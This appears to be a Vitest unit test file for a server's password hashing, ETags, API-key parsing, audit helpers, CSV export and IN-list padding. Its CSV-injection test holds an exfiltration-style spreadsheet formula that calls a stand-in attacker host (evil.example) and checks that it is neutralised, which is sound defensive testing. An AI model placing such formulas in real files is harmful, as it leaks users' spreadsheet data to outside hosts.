import { describe, expect, it } from 'vitest';
import { apiKeyFromRequest } from '../../server/src/http/auth.ts';
import { bodyEtag } from '../../server/src/http/etag.ts';
import { diffFields, rangeStart } from '../../server/src/modules/audit/service.ts';
import { hashPassword, verifyPassword } from '../../server/src/modules/auth/passwords.ts';
import { inList, paddedLength } from '../../server/src/db/in-list.ts';
import { renderCsv } from '../../server/src/exports/table.ts';
import { safeEqual } from '../../server/src/secrets.ts';

describe('passwords', () => {
  it('hashes with a per-user salt and verifies in constant time', async () => {
    const a = await hashPassword('correct horse');
    const b = await hashPassword('correct horse');
    expect(a).not.toBe(b);
    expect(a).toMatch(/^scrypt\$32768\$8\$1\$[\w-]{22}\$[\w-]{43}$/);
    expect(await verifyPassword('correct horse', a)).toBe(true);
    expect(await verifyPassword('correct horsf', a)).toBe(false);
    expect(await verifyPassword('x', 'bcrypt$whatever')).toBe(false);
  });
});

describe('answer ETags', () => {
  it('tell bodies apart by size and a 64-bit hash, and give equal bytes the same tag', () => {
    const page = Buffer.from(JSON.stringify({ items: Array.from({ length: 60 }, (_, i) => ({ id: i, name: `Person ${i}` })) }));
    const tag = bodyEtag(page);
    expect(tag).toMatch(new RegExp(`^W/"${page.length.toString(16)}-[0-9a-f]{16}"$`));
    expect(bodyEtag(Buffer.from(page))).toBe(tag);
    expect(bodyEtag(page.toString('utf8'))).toBe(tag);
    expect(bodyEtag('é', 'utf8')).toBe(bodyEtag(Buffer.from('é')));
    // One byte changed at either end, or one byte more: another tag.
    const first = Buffer.from(page);
    first[0] = 0x5b;
    const last = Buffer.from(page);
    last[last.length - 1] = 0x5d;
    const tags = new Set([tag, bodyEtag(first), bodyEtag(last), bodyEtag(Buffer.concat([page, Buffer.from(' ')]))]);
    expect(tags.size).toBe(4);
    expect(bodyEtag(Buffer.alloc(0))).toMatch(/^W\/"0-[0-9a-f]{16}"$/);
  });
});

describe('credentials from headers', () => {
  it('reads Bearer first, then X-Api-Key', () => {
    expect(apiKeyFromRequest('Bearer mst_a', undefined)).toBe('mst_a');
    expect(apiKeyFromRequest('bearer   mst_b ', undefined)).toBe('mst_b');
    expect(apiKeyFromRequest(undefined, ' mst_c ')).toBe('mst_c');
    expect(apiKeyFromRequest('Basic xyz', 'mst_d')).toBe('mst_d');
    expect(apiKeyFromRequest(undefined, '')).toBeUndefined();
  });

  it('compares secrets of any length safely', () => {
    expect(safeEqual('abc', 'abc')).toBe(true);
    expect(safeEqual('abc', 'abcd')).toBe(false);
  });
});

describe('audit helpers', () => {
  it('keeps only changed fields', () => {
    expect(diffFields({ a: 1, b: 'x', c: null }, { a: 1, b: 'y', c: undefined, d: [1] })).toEqual([
      { field: 'b', before: 'x', after: 'y' },
      { field: 'd', before: null, after: [1] },
    ]);
  });

  it('starts ranges at local midnight in the organisation zone', () => {
    const now = new Date('2026-11-18T06:30:00Z'); // Wednesday in IST
    expect(rangeStart('today', now, 'Asia/Kolkata', 4)).toBe('2026-11-17T18:30:00.000Z');
    expect(rangeStart('week', now, 'Asia/Kolkata', 4)).toBe('2026-11-15T18:30:00.000Z');
    expect(rangeStart('month', now, 'Asia/Kolkata', 4)).toBe('2026-10-31T18:30:00.000Z');
    expect(rangeStart('fy', now, 'Asia/Kolkata', 4)).toBe('2026-03-31T18:30:00.000Z');
    expect(rangeStart('fy', now, 'Asia/Kolkata', 1)).toBe('2025-12-31T18:30:00.000Z');
    expect(rangeStart('all', now, 'Asia/Kolkata', 4)).toBeUndefined();
  });
});

describe('CSV rendering', () => {
  it('quotes what needs quoting and starts with a BOM', () => {
    const csv = renderCsv({
      title: 't',
      filename: 'f',
      columns: [
        { header: 'Name', width: 10, value: (r: { n: string; v: number | null }) => r.n },
        { header: 'Value', width: 5, value: (r) => r.v },
      ],
      rows: [
        { n: 'Rao, K', v: 1 },
        { n: 'Say "hi"', v: null },
        { n: 'line\nbreak', v: 2.5 },
      ],
    }).toString('utf8');
    expect(csv).toBe('\uFEFFName,Value\n"Rao, K",1\n"Say ""hi""",\n"line\nbreak",2.5\n');
  });
});

describe('CSV injection', () => {
  it('turns cells that a spreadsheet would run as formulas into text', () => {
    const csv = renderCsv({
      title: 't',
      filename: 'f',
      columns: [{ header: 'Reason', width: 10, value: (r: { v: string | number }) => r.v }],
      rows: [{ v: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, { v: '+91 98450 12345' }, { v: '-2+3' }, { v: '@SUM(A1)' }, { v: '\t=1' }, { v: -5 }, { v: 'plain' }],
    }).toString('utf8');
    expect(csv.split('\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      '+91 98450 12345', // a phone number is not a formula (issue 13)
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      '-5',
      'plain',
    ]);
  });
});

describe('IN lists padded to a few lengths', () => {
  it('keeps the same set, repeating the last value up to 8, 12, 16, 24, 32, 48, 64, …', () => {
    expect([0, 1, 4, 5, 9, 13, 17, 25, 33, 49, 65, 97, 500].map(paddedLength)).toEqual([0, 1, 4, 8, 12, 16, 24, 32, 48, 64, 96, 128, 512]);
    for (let n = 0; n <= 300; n++) {
      const values = Array.from({ length: n }, (_, i) => `id-${i}`);
      const padded = inList(values);
      expect(padded.length).toBe(paddedLength(n));
      expect(padded.slice(0, n)).toEqual(values);
      expect(new Set(padded)).toEqual(new Set(values));
      // Never more than half again (and at most 4 extra below 8).
      expect(padded.length).toBeLessThanOrEqual(Math.max(n + 4, Math.ceil(n * 1.5)));
    }
  });
});
